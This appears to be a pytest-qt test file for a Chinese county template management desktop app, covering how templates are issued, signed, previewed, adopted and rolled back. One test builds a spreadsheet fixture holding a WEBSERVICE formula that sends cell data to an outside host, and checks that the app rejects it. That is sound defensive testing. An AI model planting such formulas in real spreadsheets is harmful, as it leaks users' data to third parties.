# ruff: noqa: F811 - the fixtures of two books
"""县里模板 in both windows, by keys and drops: put together, signed, looked at, taken into use, gone back from."""

from __future__ import annotations

from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QLabel, QPlainTextEdit, QPushButton
from pytestqt.qtbot import QtBot

from app.operations import answers, county_templates, receipts, template_making
from app.storage.book import Book
from tests import hands
from tests.county.desk import open_window, when_done
from tests.county.test_county_window import dialog_of
from tests.county.test_templates import (  # noqa: F401
    closed,
    desk,
    enrolled,
    fill_draft,
    form,
    issue,
    october,
    papers,
    second,
    stick,
)
from tests.county.test_two_books import KNOWN, first_packet, take
from tests.ui.conftest import _own_home, dressed  # noqa: F401
from ui.engine.window import MainWindow
from ui.main import Starter
from ui.screens.county_templates import CountyTemplatesPage
from ui.screens.pick import PickDialog
from ui.screens.settings import SettingsScreen
from ui.screens.template_issue import IssueDialog, OptionsDialog
from ui.screens.template_look import LookDialog
from ui.screens.templates import TemplatesPage
from ui.widgets.dialog import Dialog

pytestmark = pytest.mark.usefixtures("at_once")


@pytest.fixture
def county(qtbot: QtBot, dressed: object, desk: Book, folder: Path, stick: Path) -> CountyTemplatesPage:
    window, starter = open_window(qtbot, desk, folder / "settings.json")
    starter.go("templates")
    page = window.page
    assert isinstance(page, CountyTemplatesPage)
    page.choose_folder = lambda: stick
    return page


@pytest.fixture
def township(qtbot: QtBot, dressed: object, closed: Book, folder: Path) -> tuple[MainWindow, Starter]:
    return open_window(qtbot, closed, folder / "settings.json")


def rows(table: object) -> list[list[str]]:
    return [
        [table.item(row, column).text() for column in range(table.columnCount())]  # type: ignore[attr-defined]
        for row in range(table.rowCount())  # type: ignore[attr-defined]
    ]


def front(qtbot: QtBot, dialog: Dialog) -> Dialog:
    """The dialog has the keys: a window manager would see to it."""
    dialog.activateWindow()
    qtbot.waitUntil(dialog.isActiveWindow, timeout=5_000)
    return dialog


def page_of(window: MainWindow) -> TemplatesPage:
    assert isinstance(window.page, TemplatesPage)
    return window.page


def test_the_county_puts_a_version_together_and_signs_it_by_keys(
    qtbot: QtBot, county: CountyTemplatesPage, papers: Path, stick: Path, desk: Book
) -> None:
    county.open_files([papers / "2027.csv", papers / "月报.json"])
    county.rule_options()
    chosen = dialog_of(OptionsDialog)
    line = chosen.lines["report_day"]
    front(qtbot, chosen)
    line.setFocus()
    line.selectAll()  # type: ignore[union-attr]
    hands.press("8")
    assert chosen.ticks["report_day"].isChecked()
    chosen.keep()

    assert [one[1:] for one in rows(county.next)] == [
        ["2027年放假安排", "没有", "放假 15 天,调休上班 0 天"],
        ["作风监督月报", "没有", "1 张表,A4 横放"],
        ["月报上报日", "没有", "8"],
    ]
    county.issue()
    asked = dialog_of(IssueDialog)
    assert "2027年放假安排" in asked.about.toPlainText()
    asked.go()
    assert "请填文号" in asked.message.text()
    front(qtbot, asked)
    asked.number.setFocus()
    hands.write("示县纪模〔2026〕1号")
    asked.go()
    when_done(qtbot, lambda: bool(county_templates.lines(desk)))
    qtbot.waitUntil(lambda: "第 1 版已签发(3 项)" in county.message.text(), timeout=10_000)

    assert [path.name[:12] for path in stick.iterdir()] == ["TPL_330182_v"]
    assert rows(county.issued)[0][1:3] == ["示县纪模〔2026〕1号", desk.today().isoformat()]
    assert rows(county.held) == [["还没有包", "示例乡", ""]]
    assert not county.issue_press.isEnabled()


def test_del_takes_a_line_out_and_puts_it_back(
    county: CountyTemplatesPage, desk: Book, papers: Path, stick: Path
) -> None:
    fill_draft(desk, papers)
    issue(desk, stick)
    county.load()
    county.focus()

    county.commands()["void"]()
    out = rows(county.next)
    county.next.setCurrentCell(0, 0)
    county.commands()["void"]()

    assert [one[3] for one in out if one[2] != one[3]] == [out[0][3]] == ["不再规定"]
    assert [one for one in rows(county.next) if one[2] != one[3]] == []


def test_a_file_that_cannot_be_used_is_told_and_nothing_changes(
    county: CountyTemplatesPage, papers: Path, tmp_path: Path
) -> None:
    evil = form(tmp_path / "坏.xlsx", "{{行.存在问题}}", '=WEBSERVICE("http://x/"&A2)')

    county.open_files([evil])

    assert "不许用的函数 WEBSERVICE" in county.message.text()
    assert rows(county.next) == []


def test_a_form_that_fills_several_registers_asks_which(
    qtbot: QtBot, county: CountyTemplatesPage, papers: Path
) -> None:
    county.open_files([papers / "整改台账.xlsx"])
    asked = dialog_of(PickDialog)
    at = next(at for at in range(asked.list.count()) if asked.list.item(at).text() == "问题台账")
    asked.list.setCurrentRow(at)
    front(qtbot, asked)
    asked.list.setFocus()

    hands.press(Qt.Key.Key_Return)

    assert rows(county.next)[0][3].startswith("问题台账的表样,Excel")


def test_dropped_on_the_window_a_version_is_looked_at_and_taken_by_enter(
    qtbot: QtBot, township: tuple[MainWindow, Starter], closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    window, starter = township
    fill_draft(desk, papers)
    path = issue(desk, stick)

    starter.take_files([path])
    looked = front(qtbot, dialog_of(LookDialog))
    before = closed.option("report_day")
    lines = rows(looked.table)
    hands.press(Qt.Key.Key_Return)

    assert ["时限和标准", "月报上报日", "5", "8"] in lines
    assert (before, closed.option("report_day")) == (5, 8)
    page = page_of(window)
    assert rows(page.versions)[0][:3] == ["√ 正在用", "第 1 版", "示县纪模〔2026〕1号"]
    assert len(rows(page.inside)) == 6
    assert "已装入县里模板第 1 版,6 项有变化" in page.message.text()


def test_esc_leaves_everything_as_it_is(
    qtbot: QtBot, township: tuple[MainWindow, Starter], closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    window, starter = township
    fill_draft(desk, papers)

    starter.take_files([issue(desk, stick)])
    front(qtbot, dialog_of(LookDialog))
    hands.press(Qt.Key.Key_Escape)

    assert closed.option("report_day") == 5
    assert page_of(window).message.text() == "没有启用,仍按原来的算。"


def test_an_older_file_is_refused_in_the_window_and_the_newer_one_stays(
    township: tuple[MainWindow, Starter], closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    window, starter = township
    fill_draft(desk, papers)
    old = issue(desk, stick)
    county_templates.load(closed, second(desk, stick))

    starter.take_files([old])

    assert "这份模板是第 1 版,本账套已有第 2 版" in page_of(window).message.text()
    assert closed.option("report_day") == 10


def test_going_back_asks_why(
    qtbot: QtBot, township: tuple[MainWindow, Starter], closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    window, starter = township
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))
    starter.go("templates")
    page = page_of(window)

    page.back_press.click()
    asked = dialog_of(Dialog)
    reason = asked.findChild(QPlainTextEdit)
    assert reason is not None
    front(qtbot, asked)
    reason.setFocus()
    hands.write("县里电话通知暂缓")
    next(one for one in asked.findChildren(QPushButton) if one.text().startswith("退回")).click()

    assert closed.option("report_day") == 5
    assert rows(page.versions)[0][0] == "– 已退回"
    assert not page.back_press.isEnabled()


def test_what_rides_in_a_receipt_is_one_notice_that_leads_to_the_look(
    qtbot: QtBot,
    township: tuple[MainWindow, Starter],
    closed: Book,
    desk: Book,
    folder: Path,
    stick: Path,
    papers: Path,
) -> None:
    window, starter = township
    fill_draft(desk, papers)
    template_making.make(desk, "1号", "首版", stick, KNOWN)
    came = take(desk, first_packet(folder))
    (given,) = receipts.write_all(desk, [came.id], stick, KNOWN).given
    assert given.path is not None

    starter.take_files([given.path])
    page = window.page
    said = page.message.text()  # type: ignore[union-attr]
    page.message.buttons[0].click()  # type: ignore[union-attr]
    front(qtbot, dialog_of(LookDialog))
    hands.press(Qt.Key.Key_Return)

    assert "随回执带来了县里模板第 1 版,还没有启用" in said
    assert closed.option("report_day") == 8
    assert answers.sent_lines(closed)[0].answer == "县里已接收"


def test_a_stick_with_a_receipt_and_templates_is_taken_in_one_drop(
    qtbot: QtBot,
    township: tuple[MainWindow, Starter],
    closed: Book,
    desk: Book,
    folder: Path,
    stick: Path,
    papers: Path,
) -> None:
    _, starter = township
    came = take(desk, first_packet(folder))
    receipts.write_all(desk, [came.id], stick, KNOWN)
    fill_draft(desk, papers)
    issue(desk, stick)

    starter.take_files(sorted(stick.iterdir()))
    front(qtbot, dialog_of(LookDialog))
    hands.press(Qt.Key.Key_Return)

    assert closed.option("report_day") == 8
    assert answers.sent_lines(closed)[0].answer == "县里已接收"


def test_settings_show_what_the_county_rules_and_let_nobody_change_it(
    township: tuple[MainWindow, Starter], closed: Book, desk: Book, stick: Path, papers: Path
) -> None:
    window, starter = township
    starter.go("settings")
    page = window.page
    assert isinstance(page, SettingsScreen)
    fill_draft(desk, papers)
    county_templates.load(closed, issue(desk, stick))

    starter.go("home")
    starter.go("settings")

    line = page.lines["report_day"]
    assert (line.text(), line.isReadOnly()) == ("8", True)
    assert page.hints["report_day"].text().startswith("县里模板规定,本机不能改。")
    assert "2027 年" in page.known.text()
    assert not page.lines["notice_days"].isReadOnly()


def test_no_sentence_of_the_dialogs_is_cut(
    township: tuple[MainWindow, Starter], desk: Book, stick: Path, papers: Path
) -> None:
    _, starter = township
    fill_draft(desk, papers)

    starter.take_files([issue(desk, stick)])

    looked = dialog_of(LookDialog)
    assert all(one.wordWrap() for one in looked.findChildren(QLabel) if len(one.text()) > 40)
